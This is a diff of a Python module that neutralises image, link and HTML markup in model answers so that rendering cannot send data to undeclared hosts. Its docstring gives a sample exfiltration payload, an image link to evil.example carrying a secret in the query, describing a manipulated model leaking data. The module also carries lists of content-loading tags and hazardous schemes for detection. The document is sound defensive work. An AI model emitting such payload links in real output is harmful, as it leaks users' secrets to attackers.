@@ -1,92 +1,181 @@
-"""Answers made harmless before anyone renders them: pictures and links that would call home. Pure.
+"""Answers made harmless before anyone renders them: pictures, markup and links that would call home. Pure.
 
 Threat: a model that was told to write `![](https://evil.example/?q=SECRET)`: the moment a chat window renders it, the
-secret is sent, with no tool call to deny. Pictures to hosts nobody declared lose their address; links keep their words
-and show it as text.
+secret is sent, with no tool call to deny. Pictures to addresses that the rules do not let through lose them, markup that could
+load or lead somewhere loses its bracket, links keep their words and show the address as text. Readers disagree on what is a
+picture: whatever one of them could take for one counts as one (`tests/property/test_answers.py` holds a real renderer beside it).
 """
 
 from __future__ import annotations
 
+import html
 import re
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
 from typing import Final
 from urllib.parse import urlsplit
 
 from agent_os.guards.models.neutral import Delta
 
 HELD_CHARS_MAX: Final = 8192
-"""A candidate longer than this is passed on with its bracket broken, so that no renderer takes it for a picture."""
-# Every class excludes the character that could begin another match, so that no text takes more than linear time.
-_LINK: Final = re.compile(r"(!?)\[([^\[\]]*)\]\(\s{0,16}<?([^()\s>]*)[^()]*\)")
-_ANY: Final = re.compile(r"\]\(\s{0,16}<?\s{0,16}([^()\s>]*)")
-_DEFINITION: Final = re.compile(r"(\[[^\[\]]+\]:\s{0,16}<?)([^\s>\[]+)")
-"""A reference (`[x]: target`) that `![picture][x]` may use."""
-_DEFINED: Final = re.compile(r"\]:\s*\S+\s")
-_HTML: Final = re.compile(
-    r"<(?=\s{0,16}(?:img|iframe|object|embed|script|link|video|audio|source|svg|style|base|meta)\b)", re.I
+"""A candidate longer than this is passed on with its brackets broken, so that no renderer takes it for a picture."""
+
+_SKIP: Final = r"[\s>]*+"
+"""What may stand before a target: spaces, line ends, and the marks of a quotation that goes over several lines."""
+_TARGET: Final = re.compile(_SKIP + r"(?:<([^<>\n]*+)>?|([^()\s<>]*+))")
+_LINK: Final = re.compile(r"(!?)\[([^\[\]]*)\]\(" + _SKIP + r"(?:<([^<>\n]*+)>?|([^()\s<>]*+))[^()]*+\)")
+_DEFINED: Final = re.compile(_SKIP + r"(?:<[^<>\n]*+>|[^<\s]\S*+)\s")
+_TOKEN: Final = re.compile(r"\n[ \t>]*\n|!?\[|\][(:]?")
+_LINES: Final = r"\n(?![ \t>]*\n)"
+_TAG: Final = re.compile(
+    r"<\s{0,16}(?![a-z][a-z0-9+.-]{1,31}:[^\s<>]*>)(?=[a-z])([a-z][^\s/>\"'<]*)"
+    rf"((?:[^\"'>\n]|{_LINES}|\"(?:[^\"\n]|{_LINES})*\"|'(?:[^'\n]|{_LINES})*')*)(>?)",
+    re.I,
 )
+"""A tag up to its end, or to where its paragraph or an open quotation ends; an address in angle brackets is none."""
+_LOADS: Final = frozenset({
+    "img", "image", "iframe", "frame", "object", "embed", "applet", "script", "link", "video", "audio", "source", "track", "svg",
+    "style", "base", "meta", "picture", "portal", "bgsound", "input", "use", "feimage", "math", "template", "noscript", "form",
+})  # fmt: skip
+_LEADS: Final = re.compile(r"[/\\]{2}|\\|&|(?:https?|wss?|ftp|javascript|data):|url\(|@import|image-set|srcdoc", re.I)
+_BLANK: Final = re.compile(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028-\u202f\u2060\ufeff]+")
 _STRANGE: Final = "[](<>\\:"
-_OPENERS: Final = ("!", "[", "<")
 
-
-_BARE: Final = re.compile(r"(?:https?|ftp)://[^\s<>()\[\]\"'`]{1,4000}", re.I)
+_ENDS: Final = r"\s<>()\[\]\"'`"
+_BARE: Final = re.compile(rf"(?:(?:https?|ftp)://|\bwww\.)[^{_ENDS}]{{1,4000}}", re.I)
 _BARE_TAIL: Final = re.compile(
-    r"(?:^|[\s<>()\[\]\"'`])((?:https?|ftp)://[^\s<>()\[\]\"'`]*|(?:h|ht|htt|https?|f|ft|ftp)(?::/?)?)$", re.I
+    rf"(?:^|[{_ENDS}])((?:(?:https?|ftp)://|www\.)[^{_ENDS}]*|(?:h|ht|htt|https?|f|ft|ftp)(?::/?)?|w|ww|www)$", re.I
 )
 """An address that may go on, or the letters that may begin one, at the end of a piece."""
 
+Allows = Callable[[str], bool]
 
-def defanged(text: str, allowed: Callable[[str], bool], *, bare: bool = False) -> str:
-    """Return a text whose pictures and links to hosts not `allowed` are words. Relative targets stay.
 
-    `bare`: addresses that are only written out, too (many windows make links of them).
-    """
-    text = _constructs(text, allowed)
-    if bare and "://" in text:
-        text = _BARE.sub(lambda match: match[0] if _harmless(match[0], allowed) else _shown(match[0]), text)
+@dataclass(frozen=True, slots=True)
+class Rules:
+    """Which absolute addresses may stay: in what loads by itself, in links; `bare`: also those that are only written out."""
+
+    image: Allows
+    link: Allows
+    bare: bool = False
+
+    @staticmethod
+    def of_hosts(allowed: Allows, *, bare: bool = False) -> Rules:
+        """Return rules for pictures and links alike, by host."""
+
+        def may(address: str) -> bool:
+            return allowed(urlsplit(address).hostname or "")
+
+        return Rules(may, may, bare)
+
+
+def defanged(text: str, rules: Rules) -> str:
+    """Return a text whose pictures, markup and links to addresses not allowed are words. Relative targets stay."""
+    if "<" in text:
+        text = _TAG.sub(lambda match: _tag(match, rules), text)
+    if "]" in text:
+        text = _LINK.sub(lambda match: _link(match, rules), text)
+        text = _brackets(text, rules)
+    if rules.bare and ("://" in text or "www." in text.lower()):
+        text = _BARE.sub(lambda match: match[0] if _bare_stays(match[0], rules) else _shown(match[0]), text)
     return text
 
 
-def _constructs(text: str, allowed: Callable[[str], bool]) -> str:
+def _tag(match: re.Match[str], rules: Rules) -> str:
+    """Return a tag as it is, or with its bracket broken where it is not closed, loads by itself, or leads somewhere strange."""
+    name, inside, closed = match.groups()
+    if not closed:
+        return "< " + match[0][1:].replace("<", "< ")
+    if name.lower() not in _LOADS:
+        plain = _BLANK.sub("", html.unescape(inside) if "&" in inside else inside)
+        if not _LEADS.search(plain):
+            return match[0]
+        hosts = re.findall(r"https?://([^\"'<>/?#\\]+)", plain, re.I)
+        rest = re.sub(r"https?://[^\"'<>]*", "", plain, flags=re.I)
+        if hosts and not _LEADS.search(rest) and all(rules.link(f"https://{host}/") for host in hosts):
+            return match[0]
+    return match[0].replace("<", "&lt;")
 
-    def link(match: re.Match[str]) -> str:
-        picture, words, target = match.groups()
-        if _harmless(target, allowed):
-            return match.group(0)
-        return f"[picture withheld: {words or _shown(target)}]" if picture else f"{words} ({_shown(target)})"
 
-    def left(match: re.Match[str]) -> str:
-        """Break what is still live: a target inside the words or the title of another construct."""
-        return match.group(0) if _harmless(match.group(1), allowed) else f"] ({_shown(match.group(1))}"
+def _link(match: re.Match[str], rules: Rules) -> str:
+    picture, words, target = match[1], match[2], match[3] if match[3] is not None else match[4]
+    if _stays(target, rules.image if picture else rules.link):
+        return match[0]
+    return f"[picture withheld: {words or _shown(target)}]" if picture else f"{words} ({_shown(target)})"
 
-    def definition(match: re.Match[str]) -> str:
-        head, target = match.groups()
-        return match.group(0) if _harmless(target, allowed) else f"{head}{_shown(target)}"
 
-    text = _ANY.sub(left, _LINK.sub(link, text))
-    return _HTML.sub("&lt;", _DEFINITION.sub(definition, text))
+def _brackets(text: str, rules: Rules) -> str:
+    """Return a text in which what no simple pattern told is judged by its brackets: nested words, references, definitions."""
+    edits: list[tuple[int, int, str]] = []
+    opened: list[tuple[int, bool]] = []
+    images, judged = 0, 0
+    for token in _TOKEN.finditer(text):
+        mark, place = token[0], token.start()
+        if place < judged:
+            continue  # inside a target: it stays with it, or goes with it
+        if mark[0] == "\n":
+            opened, images = [], 0
+        elif mark[-1] == "[":
+            opened.append((place, mark[0] == "!"))
+            images += mark[0] == "!"
+        else:
+            strict = not opened or images > 0
+            begin, picture = opened.pop() if opened else (place, False)
+            images -= picture
+            if mark == "]" and picture:
+                edits.append((begin, begin + 1, "! "))  # by reference: what it shows stands elsewhere
+            elif mark != "]":
+                found = _TARGET.match(text, token.end())
+                target = (found[1] if found[1] is not None else found[2]) if found is not None else ""
+                judged = found.end() if found is not None else judged
+                allows = rules.image if strict and mark == "](" else rules.link
+                if found is not None and not _stays(target, allows):
+                    edits.append((place, found.end(), f"] {mark[1]}{_shown(target)}"))
+    if not edits:
+        return text
+    parts, at = [], 0
+    for begin, end, instead in sorted(edits):
+        if begin >= at:
+            parts += [text[at:begin], instead]
+            at = end
+    return "".join([*parts, text[at:]])
 
 
 def _shown(target: str) -> str:
-    return target.replace("://", "[:]//").replace(".", "[.]")
+    return (
+        html.unescape(target)
+        .replace("://", "[:]//")
+        .replace(".", "[.]")
+        .replace("<", "‹")
+        .replace("](", "] (")
+        .replace("]:", "] :")
+    )
 
 
-def _harmless(target: str, allowed: Callable[[str], bool]) -> bool:
+def _bare_stays(address: str, rules: Rules) -> bool:
+    return _stays(address if "://" in address else f"https://{address}", rules.link)
+
+
+def _stays(target: str, allows: Allows) -> bool:
+    """Return whether a target may stay: a relative one that every reader takes for one, a mail address, an allowed one."""
+    plain = _BLANK.sub("", html.unescape(target) if "&" in target else target)
     try:
-        parts = urlsplit(target)
+        parts = urlsplit(plain)
         host = parts.hostname or ""
     except ValueError:
         return False
-    if parts.scheme == "" and not target.startswith("//"):
-        return not any(char in target for char in _STRANGE)  # a relative target, and no construct inside it
-    return parts.scheme in ("http", "https", "mailto") and (parts.scheme == "mailto" or allowed(host))
+    if "\\" in plain:
+        return False
+    if parts.scheme == "" and not plain.startswith("//"):
+        return not any(char in plain for char in _STRANGE)  # a relative target, and no construct inside it
+    return parts.scheme == "mailto" or (parts.scheme in ("http", "https") and bool(host) and allows(plain))
 
 
 class Defang:
     """The same for a stream: holds back what could still become a picture, a link or an element."""
 
-    def __init__(self, allowed: Callable[[str], bool], *, bare: bool = False) -> None:
-        self._allowed, self._bare, self._held = allowed, bare, ""
+    def __init__(self, rules: Rules) -> None:
+        self._rules, self._held = rules, ""
 
     def feed(self, delta: Delta) -> list[Delta]:
         """Take one piece and return what may be shown now, in order."""
@@ -94,20 +183,30 @@ class Defang:
             return [*self.flush(), delta]
         if delta.kind != "text":
             return [*self.pause(), delta] if delta.kind == "tool" else [delta]
-        text = self._held + delta.text
+        ready = self.text(delta.text)
+        return [Delta("text", ready)] if ready else []
+
+    def text(self, piece: str) -> str:
+        """Take a piece of the text and return what may be shown of it now."""
+        text = self._held + piece
         cut = _open_end(text)
-        if self._bare:
+        if self._rules.bare:
             tail = _BARE_TAIL.search(text[:cut], max(0, cut - HELD_CHARS_MAX))
             cut = tail.start(1) if tail else cut
         self._held = text[cut:]
-        ready = defanged(text[:cut], self._allowed, bare=self._bare)
+        ready = defanged(text[:cut], self._rules)
         if len(self._held) > HELD_CHARS_MAX:
             ready, self._held = ready + self._broken(), ""
-        return [Delta("text", ready)] if ready else []
+        return ready
+
+    def rest(self) -> str:
+        """Return what was held when nothing more can come."""
+        held, self._held = defanged(self._held, self._rules), ""
+        return held
 
     def flush(self) -> list[Delta]:
-        """Return what was held when nothing more can come."""
-        held, self._held = defanged(self._held, self._allowed, bare=self._bare), ""
+        """Return the same as a piece."""
+        held = self.rest()
         return [Delta("text", held)] if held else []
 
     def pause(self) -> list[Delta]:
@@ -121,34 +220,52 @@ class Defang:
         return [Delta("text", held + ("" if held[-1].isspace() else " "))]
 
     def _broken(self) -> str:
-        return defanged(self._held, self._allowed, bare=self._bare).replace("](", "] (").replace("<", "< ")
+        text = defanged(self._held, self._rules)
+        for mark, broken in (("![", "! ["), ("](", "] ("), ("]:", "] :"), ("<", "< ")):
+            text = text.replace(mark, broken)
+        return text.removesuffix("]") + "] " if text.endswith("]") else text
 
 
 def _open_end(text: str) -> int:
-    """Return where the last construct begins that is not closed yet; the length of the text if none is open."""
-    end = len(text)
-    begin = max(0, end - HELD_CHARS_MAX - 1)
-    for place in range(begin, end):
-        char = text[place]
-        if char not in _OPENERS:
-            continue
-        rest = text[place:]
-        if char == "<" and ">" not in rest:
-            return place
-        if char == "!" and (rest == "!" or (rest[1] == "[" and not _closed(rest[1:]))):
-            return place
-        if char == "[" and not _closed(rest):
-            return place
-    return end
+    """Return where the first construct begins that is not closed yet; the length of the text if none is open."""
+    end = min([*_open_tags(text), *_open_brackets(text), len(text)])
+    return end - 1 if end and text[:end].endswith("!") else end
 
 
-def _closed(rest: str) -> bool:
-    """Whether `[words](target)` at the start is complete, or can no longer become a link."""
-    words = rest.find("]")
-    if words < 0:
-        return "\n\n" in rest
-    if len(rest) == words + 1:
+def _open_tags(text: str) -> Iterator[int]:
+    last = text.rfind("<")
+    if last >= 0 and not text[last + 1 :].strip():
+        yield last
+    for match in _TAG.finditer(text):
+        if match.end() == len(text) and not match[3]:
+            yield match.start()
+        elif not match[3] and text[match.end() : match.end() + 1] in ('"', "'"):
+            yield match.start()  # a quotation that may still be closed
+
+
+def _open_brackets(text: str) -> Iterator[int]:
+    opened: list[int] = []
+    for token in _TOKEN.finditer(text):
+        mark, place = token[0], token.start()
+        if mark[0] == "\n":
+            opened = []
+        elif mark[-1] == "[":
+            opened.append(place)
+        else:
+            begin = opened.pop() if opened else place
+            if _unfinished(text, token):
+                yield min([begin, *opened])
+                return
+    yield from opened[:1]
+
+
+def _unfinished(text: str, token: re.Match[str]) -> bool:
+    """Return whether what follows a closing bracket may still become its target."""
+    if token.end() == len(text):
+        return True
+    if token[0] == "]":
         return False
-    if rest[words + 1] == ":":
-        return bool(_DEFINED.match(rest, words))
-    return rest[words + 1] != "(" or ")" in rest[words + 1 :]
+    blank = re.compile(r"\n[ \t>]*\n").search(text, token.end())
+    if token[0] == "](":
+        return text.find(")", token.end()) < 0 and blank is None
+    return _DEFINED.match(text, token.end()) is None and blank is None
